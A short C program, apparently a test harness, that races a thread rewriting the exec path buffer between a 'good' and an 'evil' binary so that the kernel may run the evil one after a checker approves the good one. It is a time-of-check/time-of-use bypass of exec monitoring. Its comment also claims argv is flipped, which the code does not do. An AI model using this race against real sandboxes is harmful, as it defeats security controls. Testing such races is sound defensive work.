/* race: the main thread execs argv "good" while a second thread keeps
   rewriting the path and argv buffers to "evil" (and back), so whichever
   the kernel reads is what runs. Usage: race GOOD EVIL MARKER. */
#include <pthread.h>
#include <string.h>
#include <unistd.h>
static char path[4096], arg1[4096];
static const char *good, *evil;
static void *flip(void *x) {
	(void)x;
	for (;;) {
		strcpy(path, evil);
		strcpy(path, good);
	}
	return 0;
}
int main(int argc, char **argv) {
	if (argc < 4) return 2;
	good = argv[1]; evil = argv[2];
	strcpy(path, good);
	strcpy(arg1, argv[3]);
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	usleep(100);
	char *av[] = {path, arg1, 0};
	execv(path, av);
	return 127;
}
